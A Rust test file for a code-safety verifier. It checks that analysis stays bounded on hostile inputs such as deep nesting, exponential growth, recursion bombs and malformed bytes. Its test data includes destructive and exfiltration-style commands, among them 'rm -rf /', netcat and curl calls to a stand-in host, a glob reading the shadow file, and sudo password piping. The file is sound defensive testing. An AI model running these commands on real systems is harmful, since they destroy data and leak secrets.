//! Hostile texts: an answer in bounded time and memory, with a word about what was left out.

use std::fmt::Write as _;
use std::time::{Duration, Instant};

use proptest::prelude::*;
use stockade_verify::{CodeVerifier, Language};

/// Generous: tests run unoptimised, beside others. What must not happen is many minutes.
const TEST_TIMEOUT: Duration = Duration::from_secs(120);

#[track_caller]
fn ends(language: Language, what: &str, code: &[u8]) {
    let begun = Instant::now();
    let result = CodeVerifier::new().verify_bytes(code, language);
    let took = begun.elapsed();
    assert!(took < TEST_TIMEOUT, "{what} in {language:?}: {took:?}");
    for violation in &result.violations {
        assert!(violation.span.end <= code.len(), "{what} in {language:?}");
    }
}

#[test]
fn nesting_has_an_end() {
    for (open, close) in [
        ("(", ")"),
        ("[", "]"),
        ("{", "}"),
        ("f(", ")"),
        ("$(", ")"),
        ("\"$(", ")\""),
        ("if x; then ", "; fi"),
        ("(function(){", "})()"),
        ("lambda: ", ""),
        ("-", ""),
        ("not ", ""),
        ("a.", "b"),
        ("a[", "]"),
        ("eval '", "'"),
        ("{a,", "}"),
        ("${x:-", "}"),
        ("`${", "}`"),
        ("x = ", "1"),
        ("1 + ", "1"),
    ] {
        let depth = 2_000;
        let code = format!("{}{}", open.repeat(depth), close.repeat(depth));
        for language in Language::ALL {
            ends(language, open, code.as_bytes());
        }
    }
}

#[test]
fn many_loops_and_functions_have_an_end() {
    let mut script = String::new();
    for at in 0..5_000 {
        let _ = writeln!(
            script,
            "f{at}() {{ :; }}\nwhile true; do ls /etc/f{at}; done"
        );
    }
    ends(Language::Bash, "loops", script.as_bytes());
    let mut program = String::new();
    for depth in 0..60 {
        let _ = writeln!(program, "{}while True:", " ".repeat(depth));
    }
    for at in 0..5_000 {
        let _ = writeln!(program, "{}a.append({at})", " ".repeat(60));
    }
    ends(Language::Python, "loops", program.as_bytes());
}

#[test]
fn saying_the_same_again_has_an_end() {
    for line in [
        "nc a.example 1 < x",
        "curl -s http://a.example/ &",
        "echo $p | sudo -S id",
        "sshpass -p $p ssh a",
        "git push b.example",
        "rm -rf \"$DIR\"/*",
        "$a b",
        "find / -type f | xargs rm",
        "find ~ | while read f; do rm $f; done",
        "alias x='x y; x z'; x",
        "sh -c '\"$@\"' _ sh -c x",
        "awk '{print $1}' <<< 'a b' | sh",
        "a=$(echo x | sed 's/x/xx/g'); eval \"$a\"",
        "perl -e '$a = \"rm\"; system($a . $a)'",
        "irb\nexec '/bin/sh'",
        "aws s3 rb x",
        "cat /etc/s*?[a-z]*dow",
        "exec 3<<< 'rm x'; sh <&3",
    ] {
        let script = format!("{line}\n").repeat(4_000);
        ends(Language::Bash, line, script.as_bytes());
    }
}

#[test]
fn growth_has_an_end() {
    let mut doubling = String::from("a = 'aaaaaaaa'\n");
    for _ in 0..80 {
        doubling.push_str("a = a + a\n");
    }
    doubling.push_str("exec(a)\n");
    let mut calls = String::new();
    for at in 0..200 {
        let _ = writeln!(calls, "def f{at}(x):\n    f{n}(x)\n    f{n}(x)", n = at + 1);
    }
    calls.push_str("f0('a')\n");
    let lists = "x = [0] * 1000000000\ny = 'a' * 1000000000\nz = range(10**12)\n\
                 w = [a for a in range(4000) for b in range(4000) for c in range(4000)]\n";
    for code in [doubling.as_str(), &calls, lists] {
        ends(Language::Python, "growth", code.as_bytes());
    }
    let mut shell = String::from("a=aaaaaaaa\n");
    for _ in 0..80 {
        shell.push_str("a=$a$a\n");
    }
    shell.push_str("eval $a {1..100000000} {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}\n");
    shell.push_str("f() { f; f; }; f; eval \"$(eval \"$(eval \"$(echo eval)\")\")\"\n");
    ends(Language::Bash, "growth", shell.as_bytes());
    let mut script = String::from("let a = 'aaaaaaaa';\n");
    for _ in 0..80 {
        script.push_str("a += a;\n");
    }
    script.push_str("eval(a); eval(a.repeat(1e9)); new Array(1e9).fill(a).join(a);\n");
    ends(Language::JavaScript, "growth", script.as_bytes());
}

#[test]
fn large_texts_are_read_in_part_and_that_is_said() {
    for (language, line) in [
        (Language::Bash, "echo hello world\n"),
        (Language::Python, "x = foo(1, 'a', b)\n"),
        (Language::Go, "var x = foo(1, \"a\")\n"),
    ] {
        let mut verifier = CodeVerifier::new();
        verifier.max_bytes = 1 << 19;
        let code = line.repeat((2 << 20) / line.len());
        let begun = Instant::now();
        let result = verifier.verify_as(&code, language);
        assert!(begun.elapsed() < TEST_TIMEOUT, "{language:?}");
        let said = |warning: &String| warning.contains("only the first");
        assert!(result.warnings.iter().any(said), "{:?}", result.warnings);
    }
}

#[test]
fn broken_texts_are_analysed_as_far_as_they_go() {
    for (language, code) in [
        (
            Language::Python,
            "import os\nos.system('rm -rf /')\ndef f(:\n",
        ),
        (
            Language::Go,
            "package m\nimport \"os\"\nfunc f() { os.RemoveAll(\"/\") }\nfunc {",
        ),
        (
            Language::JavaScript,
            "require('child_process').exec('rm -rf /');\nfunction ( {",
        ),
        (
            Language::TypeScript,
            "require('child_process').exec('rm -rf /');\nfunction ( {",
        ),
        (Language::Bash, "rm -rf /\nif true; then ("),
    ] {
        let result = CodeVerifier::new().verify_as(code, language);
        let rules: Vec<_> = result.violations.iter().map(|v| v.rule).collect();
        assert!(
            !result.safe && rules.contains(&"unreadable"),
            "{language:?}: {rules:?}"
        );
    }
    let bytes = b"\xff\xfe\nimport os\nos.system('rm -rf /')\n";
    let result = CodeVerifier::new().verify_bytes(bytes, Language::Python);
    assert!(!result.safe && result.warnings.iter().any(|w| w.contains("UTF-8")));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_gets_an_answer(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        for language in Language::ALL {
            ends(language, "bytes", &bytes);
        }
    }

    #[test]
    fn any_tokens_get_an_answer(words in proptest::collection::vec(
        proptest::sample::select(vec![
            "eval", "exec", "import ", "os", ".", "(", ")", "[", "]", "{", "}", "'", "\"", "`", "$",
            "=", "+", ",", ";", "\n", "|", "&", "<<E\n", "E\n", "\\", "x", "rm -rf /", "for ", " in ",
            "if ", "def f", ":", "lambda ", "func ", "=>", "#", "//", "/*", "*", "1", "é", "\0",
        ]), 0..60,
    )) {
        let code = words.concat();
        for language in Language::ALL {
            ends(language, &code, code.as_bytes());
        }
    }
}

#[test]
fn texts_made_in_loops_have_an_end() {
    let word = "x; ".repeat(5_000);
    let python = format!(
        "import os\nt = '{word}'\nfor i in range(1000):\n    os.system(t)\n    os.system(t + str(i))\n    exec('y = ' + str(i) + '#' + t)\n"
    );
    ends(Language::Python, "commands in a loop", python.as_bytes());
    // Values that hold one value many times over.
    let mut nested = String::from("a = {'command': 'ls -l'}\n");
    for _ in 0..20 {
        nested.push_str("a = {'p': a, 'q': a, 'r': [a, a]}\n");
    }
    nested.push_str(
        &"f.create_thing(a, path=a)\nrequests.post('https://a.example', json=a)\n".repeat(2_000),
    );
    ends(Language::Python, "values within values", nested.as_bytes());
    let product = format!("x = {}1\n", "2 * ".repeat(150)).repeat(2_000);
    ends(Language::Python, "products", product.as_bytes());
    let mut replaced = String::new();
    for at in 0..3_000 {
        let _ = writeln!(
            replaced,
            "var v{at} = lib.f{at};\nlib.f{at} = function (a) {{ return a; }};"
        );
    }
    let replaced = format!("const lib = require('lib');\n{replaced}");
    ends(
        Language::JavaScript,
        "functions replaced",
        replaced.as_bytes(),
    );
}
